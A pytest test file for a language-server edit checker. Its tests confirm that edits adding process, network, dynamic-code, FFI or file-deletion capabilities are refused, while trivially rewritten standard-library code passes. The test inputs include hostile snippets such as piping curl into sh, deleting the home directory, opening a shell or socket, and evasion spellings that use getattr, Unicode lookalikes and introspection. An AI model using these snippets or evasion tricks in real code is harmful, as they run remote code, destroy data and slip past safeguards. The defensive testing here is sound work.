"""Item 6 of issue 19: an edit may not add a process, network, dynamic-code, FFI or
file-deletion capability the code did not use, in any spelling. Each attack is a real-looking
edit of a function body (or of a whole file) checked by `check_edits`, as an action's answer is;
the refusal must name the kind found."""

from __future__ import annotations

import ast
import keyword
import sysconfig
import textwrap
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lsp_server.context.documents import Document
from lsp_server.features.capabilities import _catalogs
from lsp_server.features.edits import EditRejected, Target, check_edits, replacement_edit

LANGUAGE_IDS = {"py": "python", "ts": "typescript", "js": "javascript", "tsx": "typescriptreact"}
LANGUAGE_IDS |= {
    "go": "go",
    "rs": "rust",
    "c": "c",
    "cpp": "cpp",
    "sh": "shellscript",
    "lua": "lua",
    "java": "java",
}


def edit(ext: str, text: str, body: str, new_body: str) -> str:
    """Replace `body` (which `text` holds once) with `new_body` through the edit checks."""
    snap = Document(f"file:///tmp/attack.{ext}", LANGUAGE_IDS[ext], 1, text).snapshot()
    start = text.index(body)
    target = Target(snap, start, start + len(body), "body")
    return check_edits(snap, target, [replacement_edit(target, new_body)])


def refused(ext: str, text: str, body: str, new_body: str) -> str:
    with pytest.raises(EditRejected) as info:
        edit(ext, text, body, new_body)
    message = str(info.value)
    assert "capability" in message, message
    return message


# -- Python --------------------------------------------------------------------------------

PY = '''"""Report helpers."""

import json
import os.path
import requests
import sys


def load(path):
    with open(path) as f:
        return json.load(f)


def fetch(url):
    return requests.get(url, timeout=5).json()


def summary(path):
    data = load(path)
    return {"n": len(data), "name": os.path.basename(path)}
'''
PY_BODY = '    data = load(path)\n    return {"n": len(data), "name": os.path.basename(path)}'

PY_ATTACKS = [
    ("process", "os.system('curl x | sh')"),
    ("process", "os.popen('id').read()"),
    ("process", "os.execv('/bin/sh', ['sh'])"),
    ("process", "os.posix_spawn('/bin/sh', ['sh'], {})"),
    ("dynamic", "eval(path)"),
    ("dynamic", "exec(path)"),
    ("dynamic", "compile(path, 'x', 'exec')"),
    ("process", "import os as o\n    o.system('x')"),
    ("process", "from subprocess import run as r\n    r(['ls'])"),
    ("process", "import subprocess\n    subprocess.check_output(['id'])"),
    ("dynamic", "getattr(os, 'sys' + 'tem')('x')"),
    ("dynamic", "getattr(os, path)('x')"),
    ("process", "getattr(os, 'system')('x')"),
    ("process", "__import__('os').system('x')"),
    ("dynamic", "__import__('o' + 's')"),
    (
        "network",
        "import importlib\n    importlib.import_module('socket').create_connection(('h', 1))",
    ),
    ("dynamic", "globals()['__builtins__']['ev' + 'al'](path)"),
    ("dynamic", "sys.modules['os'].system('x')"),
    ("dynamic", "sys.modules[path]"),
    ("network", "requests.post('http://x', data=data)"),  # requests.get was there, not .post
    ("process", "import shutil\n    shutil.os.system('x')"),
    ("process", "o = os\n    o.system('x')"),
    ("process", "(o := os).system('x')"),
    ("dynamic", "run = [os][0]"),
    ("dynamic", "vars(os)['system']('x')"),
    ("process", "os.__dict__['system']('x')"),
    ("dynamic", "().__class__.__base__.__subclasses__()"),
    ("dynamic", "(lambda: 0).__globals__['os']"),
    ("dynamic", "sys._getframe(1).f_globals"),
    ("network", "import urllib.request as u\n    u.urlopen('http://x')"),
    ("network", "from urllib import request\n    request.urlopen('http://x')"),
    ("network", "import socket\n    socket.socket().connect(('h', 1))"),
    ("process", "import asyncio\n    asyncio.create_subprocess_shell('id')"),
    ("process", "import webbrowser\n    webbrowser.open('http://x')"),
    ("dynamic", "import pickle\n    pickle.loads(data)"),
    ("dynamic", "import builtins as b\n    b.exec(path)"),
    ("dynamic", "__builtins__.eval(path)"),
    ("ffi", "import ctypes\n    ctypes.CDLL(None).system(b'x')"),
    ("filesystem", "import shutil\n    shutil.rmtree(os.path.expanduser('~'))"),
    ("filesystem", "os.remove(path)"),
    ("filesystem", "from pathlib import Path\n    Path(path).unlink()"),
    ("dynamic", "from os import *\n    system('x')"),
    ("process", "from os import system as print\n    print('x')"),
    ("process", "(os\n     .system)('x')"),
    ("process", "f'{os.system(path)}'"),
    ("process", "def g(x=os.system('y')):\n        pass"),
    ("process", "class C:\n        run = os.system"),
    ("dynamic", "f = exec"),
    ("process", "x = lambda: os.spawnlp(0, 'sh')"),
    # Python reads names in NFKC: fullwidth and other compatibility letters are the same name.
    ("process", "\uff4f\uff53.\uff53\uff59\uff53\uff54\uff45\uff4d('x')"),
    ("dynamic", "\uff45\uff56\uff41\uff4c(path)"),
    ("process", "from \uff4f\uff53 import \uff53\uff59\uff53\uff54\uff45\uff4d\n    system('x')"),
    ("dynamic", "\U0001d41e\U0001d42f\U0001d41a\U0001d425(path)"),  # mathematical bold
    ("dynamic", "getattr(os, '\\x73ystem')('x')"),  # an escaped name is computed
    ("process", "import subprocess, json as j\n    subprocess.call('x')"),
    ("process", "(os  # a comment inside the chain\n     .system)('x')"),
]


@pytest.mark.parametrize(("kind", "code"), PY_ATTACKS)
def test_python_attacks_are_refused(kind: str, code: str) -> None:
    new = f"    data = load(path)\n    {code}\n    return data"
    assert f"python:{kind}:" in refused("py", PY, PY_BODY, new)


def test_whole_file_rewrites_are_checked_too() -> None:
    new = PY.replace("import json\n", "import json\nimport subprocess as sp\n").replace(
        "    data = load(path)\n", "    data = load(path)\n    sp.run(['id'])\n"
    )
    assert "python:process:subprocess" in refused("py", PY, PY, new)


IDENT = st.from_regex(r"[a-z][a-z0-9_]{0,8}", fullmatch=True).filter(
    lambda s: not keyword.iskeyword(s) and s not in dir(__builtins__)
)
PY_MODULE_ENTRIES = sorted(
    name
    for kind in ("process", "network", "dynamic", "ffi", "filesystem")
    for name in _catalogs()["python"][kind]
    if name not in _catalogs()["python"]["free"] and not name.startswith("_")
)


def _spellings(module: str, member: str, alias: str) -> list[str]:
    dotted = f"{module}.{member}"
    return [
        f"import {module}\n    {dotted}(path)",
        f"import {module} as {alias}\n    {alias}.{member}(path)",
        f"from {module} import {member} as {alias}\n    {alias}(path)",
        f"from {module} import {member}\n    {member}(path)",
        f"import {module}\n    getattr({module}, {member!r})(path)",
        f"__import__({module!r}).{member}(path)",
        f"import importlib\n    importlib.import_module({module!r}).{member}(path)",
        f"import {module}\n    {alias} = {module}\n    {alias}.{member}(path)",
        f"import {module}\n    ( {module} .\n        {member} )(path)",
    ]


@settings(max_examples=150, deadline=None)
@given(entry=st.sampled_from(PY_MODULE_ENTRIES), alias=IDENT, member=IDENT, form=st.integers(0, 8))
def test_python_every_catalog_name_in_every_spelling_is_refused(
    entry: str, alias: str, member: str, form: int
) -> None:
    module, _, last = entry.rpartition(".")
    if not module or entry in ("os.path",):
        module, last = entry, member  # a whole module: any member of it
    code = _spellings(module, last, alias)[form]
    new = f"    data = load(path)\n    {code}\n    return data"
    refused("py", PY, PY_BODY, new)


@pytest.mark.parametrize("name", ["eval", "exec", "compile", "__import__", "globals"])
def test_python_builtins_are_refused_as_calls_and_as_values(name: str) -> None:
    for code in (f"{name}(path)", f"g = {name}", f"h = [{name}]", f"({name})(path)"):
        refused("py", PY, PY_BODY, f"    data = load(path)\n    {code}\n    return data")


# -- what is already there is not new ----------------------------------------------------------

PY_RUNS = '''import subprocess
import os as o


def build(target):
    """Build one target."""
    out = subprocess.run(["make", target], check=True, capture_output=True)
    o.system("sync")
    return out.stdout


def clean(target):
    result = 0
    return result
'''


def test_a_use_the_code_already_had_is_not_new() -> None:
    body = "    result = 0\n    return result"
    same = '    out = subprocess.run(["make", "clean", target], check=True)\n    return out'
    assert "make" in edit("py", PY_RUNS, body, same)
    aliased = "    from subprocess import run as go\n    return go(['make', target])"
    assert "go(" in edit("py", PY_RUNS, body, aliased)  # the same target, spelled otherwise
    assert "sync" in edit("py", PY_RUNS, body, "    o.system('sync')\n    return 0")
    refused("py", PY_RUNS, body, "    subprocess.Popen(['sh'])\n    return 0")


def test_code_run_by_eval_is_part_of_the_target() -> None:
    """A file that already runs eval(expr) may keep it; a new string passed to eval is new."""
    src = "def calc(expr):\n    return eval(expr, {})\n\n\ndef other(x):\n    return x\n"
    assert "eval(expr, {})" in edit("py", src, "    return x", "    return eval(expr, {})")
    refused("py", src, "    return x", "    return eval(\"__import__('os').system('id')\")")
    refused("py", src, "    return x", "    return eval(x)")


def test_renames_docstrings_and_reformatting_of_capability_heavy_code_pass() -> None:
    body = PY_RUNS[PY_RUNS.index("def build") : PY_RUNS.index("\n\n\ndef clean")]
    renamed = body.replace("out", "completed").replace("target", "name")
    assert "completed" in edit("py", PY_RUNS, body, renamed)
    documented = body.replace(
        '"""Build one target."""', '"""Build one target.\n\n    Runs make."""'
    )
    assert "Runs make" in edit("py", PY_RUNS, body, documented)
    wrapped = body.replace(
        'subprocess.run(["make", target], check=True, capture_output=True)',
        'subprocess.run(\n        ["make", target],\n        check=True,\n'
        "        capture_output=True,\n    )",
    )
    assert "capture_output=True,\n" in edit("py", PY_RUNS, body, wrapped)


def test_plain_code_never_counts() -> None:
    """Names that look like capabilities but are not: locals, attributes, comments, strings."""
    new = textwrap.indent(
        textwrap.dedent(
            """\
            code = compile_rules(path)  # os.system("x") in a comment
            request = {"socket": "subprocess.run", "eval": 1}
            system = code.system(request)
            self_exec = [x.exec for x in data]
            return re_compile(system, "os.popen")"""
        ),
        "    ",
    )
    assert "re_compile" in edit("py", PY, PY_BODY, new)


# -- no false refusals: real standard-library code that runs processes and opens sockets ------

STDLIB_MODULES = (
    "subprocess", "socket", "http/client", "urllib/request", "smtplib", "ftplib", "shutil",
    "webbrowser", "platform", "ctypes/util", "asyncio/subprocess", "socketserver", "uuid",
    "imaplib", "poplib", "multiprocessing/popen_fork", "xmlrpc/client", "pty", "tempfile",
)  # fmt: skip
CAPABLE = ("subprocess", "socket", "Popen", "os.", "sock", "urlopen", "_posixsubprocess", "exec")


def _stdlib_functions() -> list[tuple[str, str, ast.FunctionDef]]:
    """(module text, function text, node) for functions that use processes / sockets / os."""
    root = Path(sysconfig.get_paths()["stdlib"])
    found = []
    for name in STDLIB_MODULES:
        text = (root / f"{name}.py").read_text("utf-8")
        lines = text.splitlines(keepends=True)
        for node in ast.walk(ast.parse(text)):
            if not isinstance(node, ast.FunctionDef) or node.end_lineno is None:
                continue
            first = min([d.lineno for d in node.decorator_list] + [node.lineno])
            source = "".join(lines[first - 1 : node.end_lineno]).rstrip("\n")
            if any(word in source for word in CAPABLE) and source.count("\n") < 80:
                found.append((text, source, node))
    return found[:: max(1, len(found) // 60)]  # about 60, spread over the modules


class _Rename(ast.NodeTransformer):
    def __init__(self, names: set[str]) -> None:
        self.names = names

    def visit_Name(self, node: ast.Name) -> ast.Name:
        if node.id in self.names:
            node.id += "_renamed"
        return node


def _rewritten(source: str, node: ast.FunctionDef) -> str:
    """Locals renamed, a docstring added, reformatted (ast.unparse drops comments)."""
    declared = {
        n for s in ast.walk(node) if isinstance(s, ast.Global | ast.Nonlocal) for n in s.names
    }
    stored = {
        n.id for n in ast.walk(node) if isinstance(n, ast.Name) and isinstance(n.ctx, ast.Store)
    }
    tree = _Rename(stored - declared).visit(ast.parse(textwrap.dedent(source)))
    func = tree.body[0]
    assert isinstance(func, ast.FunctionDef)
    first = func.body[0]
    if isinstance(first, ast.Expr) and isinstance(first.value, ast.Constant):
        first.value.value = f"{first.value.value} (rewritten)"
    else:
        func.body.insert(0, ast.Expr(ast.Constant("Rewritten by the model.")))
    indent = source[: len(source) - len(source.lstrip())]
    return textwrap.indent(ast.unparse(tree), indent)


@pytest.mark.parametrize(
    ("text", "source", "node"),
    [pytest.param(*f, id=f"{f[2].name}:{f[2].lineno}") for f in _stdlib_functions()],
)
def test_standard_library_functions_rewritten_trivially_pass(
    text: str, source: str, node: ast.FunctionDef
) -> None:
    new = _rewritten(source, node)
    assert new != source
    edit("py", text, source, new)
